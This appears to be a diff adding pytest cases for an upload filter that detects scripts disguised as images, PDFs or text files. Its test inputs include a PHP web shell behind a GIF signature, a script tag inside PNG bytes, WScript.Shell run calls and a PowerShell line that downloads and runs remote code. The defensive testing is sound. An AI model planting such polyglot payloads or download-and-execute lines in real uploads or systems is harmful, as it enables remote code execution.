@@ -55,3 +55,32 @@ def test_allowed_types_take_patterns():
     assert not content_type_allowed(content_type="text/plain", allowed_types=["image/*", "application/zip"])
     # A pool that asks for scripts explicitly gets them.
     assert content_type_allowed(content_type="text/x-python", allowed_types=["text/x-python"])
+
+
+@pytest.mark.parametrize(("head", "name"), [
+    (b"GIF89a<?php system($_GET['c']); ?>", "avatar.gif"),  # the image signature comes first
+    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR<script>alert(1)</script>", "chart.png"),
+    (b"%PDF-1.4\n<?php echo 1; ?>", "report.pdf"),
+    (b'var shell = new ActiveXObject("WScript.Shell");\nshell.Run("calc");', "update.txt"),
+    (b'Set objShell = CreateObject("WScript.Shell")\nobjShell.Run "calc"', "notes.txt"),
+    (b"IEX (New-Object Net.WebClient).DownloadString('http://x/y')", "readme"),
+    (b'Dim x\nx = 1\nMsgBox "hi"', "setup.vbs"),
+    (b"Write-Host 'hello'\n", "install.ps1"),
+    (b"copy a b\r\n", "go.bat"),
+    (b"print('hi')\n", "tool.py"),
+    (b"alert(1)\n", "app.js"),
+    (b"cd /tmp\n", "run.sh"),
+    (b"\xff\xfe c o p y", "go.CMD"),  # not UTF-8: the name still decides
+])
+def test_scripts_are_refused_whatever_comes_first_and_by_name(head, name):
+    detected = content_type_detect(head, filename=name)
+    assert not content_type_allowed(content_type=detected, allowed_types=[]), detected
+
+
+@pytest.mark.parametrize(("head", "name", "expected"), [
+    (b"temperature,humidity\n21.5,40\n", "readings.csv", "text/plain"),
+    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "script.js", "image/png"),  # a real image named oddly
+    (b"the shell script notes\n", "notes.md", "text/plain"),
+])
+def test_data_files_keep_their_type_whatever_the_name(head, name, expected):
+    assert content_type_detect(head, filename=name) == expected
